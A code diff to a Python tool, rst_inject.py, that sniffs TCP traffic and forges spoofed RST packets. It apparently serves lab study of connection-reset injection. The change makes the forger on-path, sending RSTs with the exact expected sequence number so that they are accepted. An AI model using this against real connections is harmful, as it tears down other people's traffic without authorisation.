@@ -7,9 +7,10 @@
       (both directions), and once it has been idle S seconds reset both
       ends with exactly the sequence numbers each expects, unprompted.
   rst_inject.py forge IFACE PORT --ttl T --count N --jump J
-      An off-path forger: after the first server->client segment, send N
-      RSTs to the client spoofing the server, with TTL T and sequence
-      numbers jumping by J (a blind guess sweep).
+      An on-path forger: 0.3 s into the server's data, right behind one
+      of its segments, send N RSTs to the client spoofing the server, with
+      TTL T and sequence numbers jumping by J from the expected one (a
+      sweep; --jump 0 --count 1 is one exact, accepted forgery).
 
 Runs at most --timeout seconds and sends at most 2 (lb) or N packets.
 """
@@ -103,13 +104,18 @@ def lb(a, raw):
 
 
 def forge(a, raw):
+    first = None
     for p in packets(a.iface, a.timeout):
         if p is None:
             continue
         src, dst, sport, dport, seq, ack, flags, plen = p
         if sport != a.port or flags & 0x04 or not plen:
             continue
-        time.sleep(0.3)
+        first = first or time.time()
+        if time.time() - first < 0.3:
+            continue
+        # Right behind a server segment: seq + plen is what the client
+        # expects now (--jump 0 forges an exact, accepted RST).
         for k in range(1, a.count + 1):
             send(raw, rst_packet(src, dst, sport, dport,
                                  (seq + plen + k * a.jump) % 2**32, a.ttl), dst)
